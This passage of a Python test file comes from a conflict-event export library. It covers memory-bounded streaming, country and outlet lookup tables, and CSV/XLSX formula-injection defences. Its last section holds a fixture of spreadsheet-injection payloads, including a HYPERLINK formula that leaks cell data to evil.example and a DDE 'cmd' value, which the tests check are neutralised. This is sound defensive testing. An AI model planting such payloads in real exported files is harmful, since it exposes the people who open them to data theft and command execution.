        yield dict(kinds[i % 5], event_id=f"RSD-{i:010X}", fatalities=i % 40)


@pytest.mark.parametrize("fmt", ["acled-csv", "jsonl"])
def test_streaming_holds_no_rows_in_memory(fmt, tmp_path):
    """Traced allocations stay at a chunk's size. tracemalloc slows writing about tenfold, so
    3,000 rows: holding their records would take over 8 MiB, their output text over 2 MiB."""
    path = tmp_path / f"out.{fmt}"
    write_export(generated_events(10), fmt, io.BytesIO())  # load tables and modules outside the trace
    tracemalloc.start()
    try:
        with path.open("wb") as fh:
            n = write_export(generated_events(3_000), fmt, fh)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert n == 3_000
    assert peak < 2 * 2**20, f"peak {peak / 2**20:.1f} MiB"


CHILD = """
import json, os, resource, sys
from rasid.export import write_export
fmt, path, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
kinds = json.loads(sys.stdin.read())
def events(count):
    for i in range(count):
        yield dict(kinds[i % len(kinds)], event_id=f"RSD-{i:010X}", fatalities=i % 40)
with open(os.devnull, "wb") as sink:
    write_export(events(50), fmt, sink)
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
with open(path, "wb") as fh:
    rows = write_export(events(n), fmt, fh)
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"rows": rows, "growth_kib": after - before}))
"""


@pytest.mark.parametrize("fmt", ["acled-csv", "jsonl"])
def test_fifty_thousand_events_stream_in_bounded_memory(fmt, tmp_path):
    """50,000 events in a fresh process: its peak resident memory barely grows while writing."""
    path = tmp_path / "out"
    result = subprocess.run([sys.executable, "-c", CHILD, fmt, str(path), "50000"], input=json.dumps(EVENTS[:5]),
                            capture_output=True, text=True, timeout=120, check=True)
    report = json.loads(result.stdout)
    assert report["rows"] == 50_000
    assert report["growth_kib"] < 30 * 1024, f"grew {report['growth_kib'] / 1024:.0f} MiB"
    with path.open("rb") as fh:
        lines = sum(1 for _ in fh)
    assert lines == 50_000 + (1 if fmt == "acled-csv" else 0)


# ------------------------------------------------------------------ data files

def test_countries_table_is_in_step_with_its_builder(shared, tmp_path):
    out = tmp_path / "countries.tsv"
    subprocess.run([sys.executable, str(REPO / "scripts" / "build_countries.py"), "--shared", str(shared),
                    "--out", str(out)], check=True, capture_output=True, timeout=60)
    shipped = (REPO / "src" / "rasid" / "data" / "countries.tsv").read_text(encoding="utf-8")
    assert out.read_text(encoding="utf-8") == shipped, "run scripts/build_countries.py and commit the result"


def test_countries_have_acled_regions_and_codes():
    from rasid.lexicon import load_table

    acled = {"Middle East", "Northern Africa", "Eastern Africa", "Western Africa", "Middle Africa", "Southern Africa",
             "South Asia", "Southeast Asia", "East Asia", "Caucasus and Central Asia", "Europe", "North America",
             "Central America", "South America", "Caribbean", "Oceania", "Antarctica"}
    rows = {r["iso2"]: r for r in load_table("countries").rows}
    assert len(rows) > 240
    assert {r["acled_region"] for r in rows.values()} == acled
    for code, region in [("SY", "Middle East"), ("IR", "Middle East"), ("EG", "Northern Africa"),
                         ("SD", "Northern Africa"), ("AZ", "Caucasus and Central Asia"), ("AF", "South Asia"),
                         ("MZ", "Southern Africa"), ("SO", "Eastern Africa"), ("ML", "Western Africa")]:
        assert rows[code]["acled_region"] == region, code
    assert (rows["YE"]["iso3"], rows["YE"]["m49"], rows["YE"]["name_ar"]) == ("YEM", "887", "اليمن")
    assert all(re.fullmatch(r"[A-Z]{2}", r["iso2"]) and re.fullmatch(r"[A-Z]{3}", r["iso3"]) for r in rows.values())


def test_every_outlet_of_the_news_subset_is_known(shared):
    from rasid.export.fields import outlet
    from rasid.lexicon import load_table

    scales = {"Subnational", "National", "Regional", "International", "New media", "Other"}
    assert all(r["source_scale"] in scales for r in load_table("outlets").rows)
    path = shared / "data" / "saudinewsnet-conflict-subset" / "saudinewsnet_conflict_2015.jsonl"
    seen = set()
    with path.open(encoding="utf-8") as fh:
        for line in fh:
            record = json.loads(line)
            key = (record["source"], record["url"].split("/")[2])
            if key in seen:
                continue
            seen.add(key)
            by_key = outlet({"outlet": record["source"], "url": None})
            by_url = outlet({"outlet": None, "url": record["url"]})
            assert by_key == by_url and by_key.scale != "Other", key


# ------------------------------------------------------------------ hostile cell values

HOSTILE = {**EVENTS[0], "event_id": "RSD-00000000F0",
           "actors": [{"id": "x", "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "name_ar": "@SUM(1+1)",
                       "inter": 2}, IS],
           "location": loc("+cmd|' /C calc'!A0", "-2+3", "SY", "\tAl-Hasakeh", -36.4839, -40.7472),
           "sources": [{**SOURCE_AAWSAT, "outlet": "=1+2", "title": "\r=cmd"}]}


@pytest.mark.parametrize("fmt", ["acled-csv", "ucdp-csv", "hxl-csv"])
def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(fmt):
    rows = csv_rows(export(fmt, [HOSTILE])[1])
    cells = [c for r in rows[1:] for c in r]
    assert cells, fmt
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")), (fmt, c)
        assert not c.startswith("-") or float(c) < 0, (fmt, c)
    assert any(c.startswith("'=HYPERLINK(") or c.startswith("'=1+2") for c in cells), "kept, as text"
    if fmt != "ucdp-csv":
        assert "-36.4839" in cells and "-40.7472" in cells, "negative coordinates stay numbers"


def test_no_xlsx_string_starts_a_formula():
    rows = xlsx_rows(export("xlsx", [HOSTILE])[1])
    strings = [v for v in rows[1] if isinstance(v, str)]
    assert strings and not [v for v in strings if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert -36.4839 in rows[1], "numbers are numbers"
